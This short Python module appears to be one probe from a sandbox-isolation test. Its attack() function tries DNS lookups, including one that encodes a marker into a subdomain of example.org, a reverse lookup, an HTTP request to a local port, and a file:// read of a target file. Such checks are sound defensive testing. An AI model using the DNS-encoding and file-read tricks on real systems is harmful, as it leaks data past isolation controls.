"""network: looks a name up that spells what it was given, and fetches a page"""
import socket
import urllib.request


def attack():
    socket.setdefaulttimeout(0.3)
    found = []
    for way in (
        lambda: socket.getaddrinfo("example.org", 80), lambda: socket.gethostbyname(TARGET["marker"] + ".example.org"),
        lambda: socket.gethostbyaddr("127.0.0.1"), lambda: urllib.request.urlopen(f"http://127.0.0.1:{TARGET['tcp']}/", timeout=0.3),
        lambda: urllib.request.urlopen(f"file://{TARGET['files'][0]}"),
    ):
        try:
            found.append(str(way())[:80])
        except Exception:
            pass
    return found
